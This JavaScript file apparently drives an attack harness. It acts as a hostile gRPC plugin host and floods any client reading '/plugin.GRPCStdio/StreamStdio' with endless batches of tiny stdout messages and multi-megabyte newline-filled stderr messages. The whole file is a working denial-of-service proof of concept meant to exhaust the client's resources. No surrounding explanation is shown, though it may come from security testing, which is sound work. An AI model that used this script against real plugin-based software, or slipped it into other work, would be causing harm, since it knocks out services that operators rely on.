import { attackHost } from './lib/attack.js';
import { stdioData } from './lib/messages.js';
import { rawMessage } from './lib/raw-http2.js';

const short = rawMessage(stdioData.encode({ channel: 'stdout', data: Buffer.from('x\n') }));
const many = Buffer.concat(Array.from({ length: 1000 }, () => short));
const long = rawMessage(stdioData.encode({ channel: 'stderr', data: Buffer.alloc(3 * 1024 * 1024, '\n') }));

attackHost({
  answer(stream) {
    if (stream.path !== '/plugin.GRPCStdio/StreamStdio') return false;
    stream.begin();
    stream.flood((count) => (count % 1000 === 0 ? long : many));
    return true;
  },
});
